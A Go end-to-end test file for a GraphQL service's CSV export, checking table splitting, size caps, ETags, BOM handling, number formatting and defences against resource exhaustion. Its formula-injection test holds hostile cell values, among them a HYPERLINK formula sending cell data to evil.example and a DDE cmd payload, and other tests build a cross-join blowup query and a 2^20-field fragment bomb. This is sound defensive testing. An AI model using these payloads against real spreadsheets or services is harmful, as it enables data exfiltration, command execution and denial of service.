package e2e

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"policygraph/internal/testenv"
	"policygraph/storage"
)

// saveQuery saves a query under name, failing the test on any error.
func saveQuery(t *testing.T, srv *testenv.Service, name, q string) {
	t.Helper()
	r := srv.Post(t, testenv.Token, `mutation($n: String!, $q: String!) { saveQuery(input: { name: $n, query: $q }) { url } }`, map[string]any{"n": name, "q": q})
	if len(r.Errors) > 0 {
		t.Fatalf("save %s: %+v", name, r.Errors)
	}
}

// csvGET fetches a saved query's CSV form: its status, rows and raw body.
func csvGET(t *testing.T, srv *testenv.Service, path string, params url.Values, header map[string]string) (*http.Response, [][]string, string) {
	t.Helper()
	if params == nil {
		params = url.Values{}
	}
	params.Set("format", "csv")
	resp, body := getURL(t, srv.URL+path+"?"+params.Encode(), header)
	if resp.StatusCode != http.StatusOK {
		return resp, nil, body
	}
	if !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("%s: Content-Type %q", path, resp.Header.Get("Content-Type"))
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatalf("%s: not CSV: %v\n%s", path, err, body)
	}
	return resp, rows, body
}

// errorOf decodes a JSON error answer: its first error's code and extensions.
func errorOf(t *testing.T, body string) (string, map[string]any) {
	t.Helper()
	var r testenv.Response
	if err := json.Unmarshal([]byte(body), &r); err != nil || len(r.Errors) == 0 {
		t.Fatalf("not an error answer: %v %s", err, body)
	}
	return r.Code(), r.Errors[0].Extensions
}

// x4 is the attack of issue 9, item 2: four aliased sibling lists, which the
// old CSV export cross-joined (n=30: 810,000 rows, 36 MB for a 2.7 KB JSON
// answer; n=200 ran the server out of memory).
const x4 = `query X4($n: Int = 20) {
  a: entities(first: $n) { nodes { slug name } }
  b: entities(first: $n) { nodes { slug } }
  c: entities(first: $n) { nodes { slug } }
  d: entities(first: $n) { nodes { slug } }
}`

// TestCSVSiblingListsNeverMultiply: a query with lists side by side is
// refused as one CSV table, naming the tables; each table asked for by name
// has one row per element of its list, whatever the siblings hold.
func TestCSVSiblingListsNeverMultiply(t *testing.T) {
	srv := testenv.Server(t)
	saveQuery(t, srv, "x4", x4)
	for _, n := range []string{"30", "200"} {
		resp, _, body := csvGET(t, srv, "/q/x4", url.Values{"n": {n}}, nil)
		if resp.StatusCode != http.StatusBadRequest {
			t.Fatalf("n=%s: status %d, %d bytes", n, resp.StatusCode, len(body))
		}
		code, ext := errorOf(t, body)
		eq(t, code, "CSV_TABLE_AMBIGUOUS")
		eq(t, ext["tables"], []any{"a.nodes", "b.nodes", "c.nodes", "d.nodes"})
		for _, table := range []string{"a.nodes", "d.nodes"} {
			_, jsonBody := getURL(t, srv.URL+"/q/x4?n="+n, nil)
			resp, rows, body := csvGET(t, srv, "/q/x4", url.Values{"n": {n}, "table": {table}}, nil)
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("n=%s table=%s: %d %s", n, table, resp.StatusCode, body)
			}
			var d struct {
				Data map[string]struct{ Nodes []any }
			}
			json.Unmarshal([]byte(jsonBody), &d)
			want := len(d.Data[table[:1]].Nodes)
			if len(rows) != want+1 || want == 0 {
				t.Errorf("n=%s table=%s: %d rows, want %d and a header", n, table, len(rows)-1, want)
			}
			if len(body) > len(jsonBody) {
				t.Errorf("n=%s table=%s: %d bytes of CSV for %d bytes of JSON", n, table, len(body), len(jsonBody))
			}
			if resp.Header.Get("Policygraph-Csv-Table") != table {
				t.Errorf("table header %q", resp.Header.Get("Policygraph-Csv-Table"))
			}
		}
	}
	_, _, body := csvGET(t, srv, "/q/x4", url.Values{"table": {"a"}}, nil)
	code, ext := errorOf(t, body)
	eq(t, code, "CSV_TABLE_UNKNOWN")
	eq(t, ext["tables"], []any{"a.nodes", "b.nodes", "c.nodes", "d.nodes"})
}

const eventSaved = `query Event($slug: String = "waic-2023") {
  event(slug: $slug) {
    name
    sponsorships { tier subject { name } }
    year
    participants { subject { name } }
    measures { measure quantity { amount } }
  }
}`

// TestCSVOneTablePerList: the event's sponsorships, participants and measures
// are three tables; each has one row per element of its list (532 rows of
// unrelated sponsors and participants before), with the event's own fields
// on every row, in selection order.
func TestCSVOneTablePerList(t *testing.T) {
	srv := testenv.Server(t)
	saveQuery(t, srv, "event", eventSaved)
	resp, _, body := csvGET(t, srv, "/q/event", nil, nil)
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("no table: %d %s", resp.StatusCode, body)
	}
	code, ext := errorOf(t, body)
	eq(t, code, "CSV_TABLE_AMBIGUOUS")
	eq(t, ext["tables"], []any{"event.sponsorships", "event.participants", "event.measures"})

	_, jsonBody := getURL(t, srv.URL+"/q/event", nil)
	var d struct {
		Data struct {
			Event struct {
				Name         string
				Year         json.Number
				Sponsorships []struct {
					Tier    string
					Subject struct{ Name string }
				}
				Participants []any
				Measures     []any
			}
		}
	}
	if err := json.Unmarshal([]byte(jsonBody), &d); err != nil {
		t.Fatal(err)
	}
	ev := d.Data.Event
	for _, tc := range []struct {
		table string
		n     int
		cols  []string
	}{
		{"event.sponsorships", len(ev.Sponsorships), []string{"event.name", "event.sponsorships.tier", "event.sponsorships.subject.name", "event.year"}},
		{"event.participants", len(ev.Participants), []string{"event.name", "event.year", "event.participants.subject.name"}},
		{"event.measures", len(ev.Measures), []string{"event.name", "event.year", "event.measures.measure", "event.measures.quantity.amount"}},
	} {
		resp, rows, body := csvGET(t, srv, "/q/event", url.Values{"table": {tc.table}}, nil)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: %d %s", tc.table, resp.StatusCode, body)
		}
		eq(t, rows[0], tc.cols)
		if tc.n == 0 || len(rows) != tc.n+1 {
			t.Errorf("%s: %d rows, want %d", tc.table, len(rows)-1, tc.n)
		}
		for _, r := range rows[1:] {
			if r[0] != ev.Name || r[slicesIndex(tc.cols, "event.year")] != ev.Year.String() {
				t.Errorf("%s: row %q lacks the event's fields", tc.table, r)
			}
		}
		if tc.table == "event.sponsorships" {
			for i, s := range ev.Sponsorships {
				if rows[i+1][1] != s.Tier || rows[i+1][2] != s.Subject.Name {
					t.Errorf("row %d = %q, want %s %s", i+1, rows[i+1], s.Tier, s.Subject.Name)
				}
			}
		}
	}
}

func slicesIndex(s []string, v string) int {
	for i, x := range s {
		if x == v {
			return i
		}
	}
	return -1
}

// TestCSVNestedChain: lists inside lists still become rows, along one chain:
// by default the innermost list; a list higher on the chain when named (the
// lists inside it are then other tables).
func TestCSVNestedChain(t *testing.T) {
	srv := testenv.Server(t)
	saveQuery(t, srv, "headline", headlineSaved)
	_, jsonBody := getURL(t, srv.URL+"/q/headline", nil)
	var d struct {
		Data struct {
			SponsorshipsByYear []struct {
				Year         json.Number
				Sponsorships []struct {
					Tier     string
					Subject  struct{ Name string }
					Evidence []struct{ Quote string }
				}
			}
		}
	}
	if err := json.Unmarshal([]byte(jsonBody), &d); err != nil {
		t.Fatal(err)
	}
	var years, sponsorships, evidence [][]string
	for _, y := range d.Data.SponsorshipsByYear {
		years = append(years, []string{y.Year.String()})
		for _, s := range y.Sponsorships {
			sponsorships = append(sponsorships, []string{y.Year.String(), s.Tier, s.Subject.Name})
			for _, e := range s.Evidence {
				evidence = append(evidence, []string{y.Year.String(), s.Tier, s.Subject.Name, e.Quote})
			}
		}
	}
	if len(evidence) < 4 {
		t.Fatalf("the headline has %d pieces of evidence", len(evidence))
	}
	for _, tc := range []struct {
		table string
		cols  []string
		want  [][]string
	}{
		{"", []string{"sponsorshipsByYear.year", "sponsorshipsByYear.sponsorships.tier", "sponsorshipsByYear.sponsorships.subject.name", "sponsorshipsByYear.sponsorships.evidence.quote"}, evidence},
		{"sponsorshipsByYear.sponsorships.evidence", []string{"sponsorshipsByYear.year", "sponsorshipsByYear.sponsorships.tier", "sponsorshipsByYear.sponsorships.subject.name", "sponsorshipsByYear.sponsorships.evidence.quote"}, evidence},
		{"sponsorshipsByYear.sponsorships", []string{"sponsorshipsByYear.year", "sponsorshipsByYear.sponsorships.tier", "sponsorshipsByYear.sponsorships.subject.name"}, sponsorships},
		{"sponsorshipsByYear", []string{"sponsorshipsByYear.year"}, years},
	} {
		params := url.Values{}
		if tc.table != "" {
			params.Set("table", tc.table)
		}
		resp, rows, body := csvGET(t, srv, "/q/headline", params, nil)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("table %q: %d %s", tc.table, resp.StatusCode, body)
		}
		eq(t, rows[0], tc.cols)
		eq(t, rows[1:], tc.want)
	}
}

// TestCSVCaps: a table over -csv-max-rows or -csv-max-bytes is refused before
// its first byte, 400 CSV_TOO_LARGE, never cut; one at the cap is whole.
func TestCSVCaps(t *testing.T) {
	srv := testenv.Server(t) // no caps: the reference
	capped := testenv.Server(t, "-csv-max-rows", "5")
	for _, s := range []*testenv.Service{srv, capped} {
		saveQuery(t, s, "x4", x4)
	}
	resp, rows, _ := csvGET(t, capped, "/q/x4", url.Values{"n": {"5"}, "table": {"a.nodes"}}, nil)
	if resp.StatusCode != http.StatusOK || len(rows) != 6 {
		t.Fatalf("5 rows at a cap of 5: %d, %d rows", resp.StatusCode, len(rows))
	}
	resp, _, body := csvGET(t, capped, "/q/x4", url.Values{"n": {"6"}, "table": {"a.nodes"}}, nil)
	code, ext := errorOf(t, body)
	if resp.StatusCode != http.StatusBadRequest || code != "CSV_TOO_LARGE" || ext["maxRows"] != 5.0 {
		t.Fatalf("6 rows at a cap of 5: %d %s", resp.StatusCode, body)
	}
	// Bytes: the cap is the size of the uncapped table, then one byte less.
	// As it is (Accept-Encoding: identity): a gzip answer has no Content-Length.
	identity := map[string]string{"Accept-Encoding": "identity"}
	_, _, full := csvGET(t, srv, "/q/x4", url.Values{"n": {"50"}, "table": {"a.nodes"}}, identity)
	for _, tc := range []struct {
		max    int64
		status int
	}{{int64(len(full)), 200}, {int64(len(full)) - 1, 400}} {
		s := testenv.Server(t, "-csv-max-bytes", strconv.FormatInt(tc.max, 10))
		saveQuery(t, s, "x4", x4)
		resp, _, body := csvGET(t, s, "/q/x4", url.Values{"n": {"50"}, "table": {"a.nodes"}}, identity)
		if resp.StatusCode != tc.status {
			t.Fatalf("%d bytes at a cap of %d: %d %.200s", len(full), tc.max, resp.StatusCode, body)
		}
		if tc.status == 200 && (body != full || resp.ContentLength != int64(len(full))) {
			t.Errorf("at the cap: %d bytes (Content-Length %d), want %d", len(body), resp.ContentLength, len(full))
		}
		if tc.status == 400 {
			if code, ext := errorOf(t, body); code != "CSV_TOO_LARGE" || ext["maxBytes"] != float64(tc.max) {
				t.Errorf("over the byte cap: %s", body)
			}
		}
	}
}

// TestCSVFormulaInjection: a cell a spreadsheet would run as a formula starts
// with ' (issue 9, item 8: an entity named =HYPERLINK(...) came out verbatim).
func TestCSVFormulaInjection(t *testing.T) {
	srv := testenv.Server(t)
	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "=1;2", "plain -dash"}
	for _, n := range names {
		r := srv.Post(t, testenv.Token, `mutation($n: String!) { createEntity(input: {kind: TOPIC, name: $n}) { id } }`, map[string]any{"n": n})
		if len(r.Errors) > 0 {
			t.Fatalf("create %q: %+v", n, r.Errors)
		}
	}
	saveQuery(t, srv, "topics", `{ entities(filter: {kinds: [TOPIC]}, first: 200) { totalCount nodes { name } } }`)
	resp, rows, body := csvGET(t, srv, "/q/topics", nil, nil)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("%d %s", resp.StatusCode, body)
	}
	got := map[string]bool{}
	for _, r := range rows[1:] {
		got[r[1]] = true
		if c := r[1]; c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("cell %q starts a formula", c)
		}
	}
	for _, n := range names {
		want := n
		if strings.ContainsRune("=+-@", rune(n[0])) {
			want = "'" + n
		}
		if !got[want] {
			t.Errorf("no cell %q in %q", want, rows)
		}
	}
	// totalCount is a JSON number: a number, never quoted.
	if rows[1][0] == "" || rows[1][0][0] == '\'' {
		t.Errorf("totalCount cell %q", rows[1][0])
	}
}

// TestCSVColumnsInSelectionOrder: columns follow the query, fragments and
// aliases included, not the alphabet.
func TestCSVColumnsInSelectionOrder(t *testing.T) {
	srv := testenv.Server(t)
	saveQuery(t, srv, "order", `query { zz: organization(slug: "qualcomm") { slug ...F name } }
fragment F on Organization { country kind }`)
	_, rows, body := csvGET(t, srv, "/q/order", nil, nil)
	if rows == nil {
		t.Fatal(body)
	}
	eq(t, rows, [][]string{{"zz.slug", "zz.country", "zz.kind", "zz.name"}, {"qualcomm", "US", "ORGANIZATION", "Qualcomm"}})
}

// TestCSVByteOrderMark: bom=1 starts the table with a UTF-8 BOM, so Excel
// reads Vietnamese names as UTF-8; by default there is none.
func TestCSVByteOrderMark(t *testing.T) {
	srv := testenv.Server(t)
	saveQuery(t, srv, "headline", headlineSaved)
	for bom, want := range map[string]bool{"": false, "0": false, "1": true, "true": true} {
		params := url.Values{}
		if bom != "" {
			params.Set("bom", bom)
		}
		resp, rows, body := csvGET(t, srv, "/q/headline", params, nil)
		if resp.StatusCode != http.StatusOK || strings.HasPrefix(body, "\uFEFF") != want || !strings.Contains(body, "Tại WAIC") {
			t.Errorf("bom=%q: %d, starts %q", bom, resp.StatusCode, body[:min(len(body), 10)])
		}
		if len(rows) < 2 || rows[0][0] != "sponsorshipsByYear.year" {
			t.Errorf("bom=%q: rows %q", bom, rows)
		}
	}
	resp, _, body := csvGET(t, srv, "/q/headline", url.Values{"bom": {"yes please"}}, nil)
	if code, _ := errorOf(t, body); resp.StatusCode != http.StatusBadRequest || code != "BAD_REQUEST" {
		t.Errorf("bom=yes please: %d %s", resp.StatusCode, body)
	}
}

// TestCSVETags: the JSON and CSV forms of one URL have distinct ETags (a CSV
// request with the JSON ETag was answered 304), as have two tables or BOM
// choices; each form's own ETag gets a 304.
func TestCSVETags(t *testing.T) {
	srv := testenv.Server(t)
	saveQuery(t, srv, "headline", headlineSaved)
	get := func(params url.Values, inm string) *http.Response {
		t.Helper()
		h := map[string]string{}
		if inm != "" {
			h["If-None-Match"] = inm
		}
		resp, _ := getURL(t, srv.URL+"/q/headline?"+params.Encode(), h)
		return resp
	}
	jsonForm := get(url.Values{}, "")
	// The case first: the CSV form asked with the JSON form's ETag.
	if s := get(url.Values{"format": {"csv"}}, jsonForm.Header.Get("ETag")).StatusCode; s != http.StatusOK {
		t.Errorf("CSV with the JSON ETag: %d, want 200", s)
	}
	forms := map[string]url.Values{
		"csv":        {"format": {"csv"}},
		"csv bom":    {"format": {"csv"}, "bom": {"1"}},
		"csv table":  {"format": {"csv"}, "table": {"sponsorshipsByYear"}},
		"csv table2": {"format": {"csv"}, "table": {"sponsorshipsByYear.sponsorships"}},
	}
	etags := map[string]string{"json": jsonForm.Header.Get("ETag")}
	for name, p := range forms {
		etags[name] = get(p, "").Header.Get("ETag")
	}
	seen := map[string]string{}
	for name, e := range etags {
		if e == "" {
			t.Fatalf("%s: no ETag", name)
		}
		if other, dup := seen[e]; dup {
			t.Errorf("%s and %s share the ETag %s", name, other, e)
		}
		seen[e] = name
	}
	// The table named or by default: the same table, the same ETag.
	if e := get(url.Values{"format": {"csv"}, "table": {"sponsorshipsByYear.sponsorships.evidence"}}, "").Header.Get("ETag"); e != etags["csv"] {
		t.Errorf("the default table named: ETag %s, want %s", e, etags["csv"])
	}
	for name, p := range forms {
		if s := get(p, etags["json"]).StatusCode; s != http.StatusOK {
			t.Errorf("%s with the JSON ETag: %d, want 200", name, s)
		}
		if s := get(p, etags[name]).StatusCode; s != http.StatusNotModified {
			t.Errorf("%s with its ETag: %d, want 304", name, s)
		}
		if s := get(p, `"nope", W/`+etags[name]).StatusCode; s != http.StatusNotModified {
			t.Errorf("%s with its weak ETag in a list: %d, want 304", name, s)
		}
	}
	if s := get(url.Values{}, etags["csv"]).StatusCode; s != http.StatusOK {
		t.Errorf("JSON with the CSV ETag: %d, want 200", s)
	}
	if s := get(url.Values{}, etags["json"]).StatusCode; s != http.StatusNotModified {
		t.Errorf("JSON with its ETag: %d, want 304", s)
	}
	// HEAD: the headers of the GET, no body.
	req, _ := http.NewRequest(http.MethodHead, srv.URL+"/q/headline?format=csv", nil)
	req.Header.Set("Accept-Encoding", "gzip") // as Go's client asked for the GETs above; it does not for HEAD
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || resp.Header.Get("ETag") != etags["csv"] {
		t.Errorf("HEAD: %d ETag %s", resp.StatusCode, resp.Header.Get("ETag"))
	}
}

// TestCSVParametersAreNotVariables: format, table and bom are /q/'s own
// parameters, so a saved query may not declare variables of those names.
func TestCSVParametersAreNotVariables(t *testing.T) {
	srv := testenv.Server(t)
	for _, v := range []string{"format", "table", "bom"} {
		r := srv.Post(t, testenv.Token, `mutation($q: String!) { saveQuery(input: { name: "reserved", query: $q }) { url } }`,
			map[string]any{"q": `query($` + v + `: String) { entity(slug: $` + v + `) { name } }`})
		if r.Code() != "INVALID_ARGUMENT" || !strings.Contains(r.Errors[0].Message, "$"+v) {
			t.Errorf("$%s: %+v", v, r.Errors)
		}
	}
}

// TestCSVFragmentBomb: laying out a CSV table walks the query with fragments
// expanded, before the API's limits see it; a saved query spreading fragments
// into fragments (2^20 fields) is refused after a bounded walk, not expanded.
func TestCSVFragmentBomb(t *testing.T) {
	srv := testenv.Server(t)
	g := srv.Graph
	var b strings.Builder
	b.WriteString("{ ...F0 }\n")
	for i := range 20 {
		fmt.Fprintf(&b, "fragment F%d on Query { ...F%d ...F%d }\n", i, i+1, i+1)
	}
	b.WriteString("fragment F20 on Query { stats { entities } }\n")
	// Straight into the store: saveQuery refuses what does not validate, and this does.
	if _, err := g.PutSavedQuery(storage.SavedQuery{Name: "bomb", Query: b.String()}); err != nil {
		t.Fatal(err)
	}
	resp, _, body := csvGET(t, srv, "/q/bomb", nil, nil)
	if code, _ := errorOf(t, body); resp.StatusCode != http.StatusBadRequest || code != "COMPLEXITY_LIMIT_EXCEEDED" {
		t.Fatalf("%d %s", resp.StatusCode, body)
	}
}

// exponent matches a number in exponent notation, in JSON or a CSV cell.
var exponent = regexp.MustCompile(`(?m)(^|[:,"])-?[0-9]+(\.[0-9]+)?[eE][+-]?[0-9]+`)

// TestAmountsInFixedNotation: the seed's large amounts (2.85 billion yuan,
// 300 billion) come in fixed notation, never 2.85e+09 or 3e+11, in the JSON
// answer and in its CSV form; fractions keep their digits (0.3333).
func TestAmountsInFixedNotation(t *testing.T) {
	srv := testenv.Server(t)
	const q = `{ facts(filter: { predicates: [MEASURE, TARGET] }, first: 200) { nodes { measure quantity { amount upper bound unit } } } }`
	r := srv.Must(t, "", q, nil)
	for _, want := range []string{`"amount":2850000000,`, `"amount":300000000000,`, `"amount":410000000,`, `"amount":0.3333,`, `"upper":30000,`} {
		if !strings.Contains(r.Raw, want) {
			t.Errorf("the JSON answer lacks %s", want)
		}
	}
	if m := exponent.FindString(r.Raw); m != "" {
		t.Errorf("a number in exponent notation, %s: %s", m, testenv.Clip(r.Raw))
	}

	saveQuery(t, srv, "amounts", q)
	_, rows, body := csvGET(t, srv, "/q/amounts", nil, nil)
	if m := exponent.FindString(body); m != "" {
		t.Errorf("a CSV cell in exponent notation, %s:\n%s", m, body)
	}
	cells := map[string]bool{}
	for _, row := range rows {
		for _, c := range row {
			cells[c] = true
		}
	}
	for _, want := range []string{"2850000000", "300000000000", "0.3333"} {
		if !cells[want] {
			t.Errorf("no CSV cell %q:\n%s", want, body)
		}
	}
}
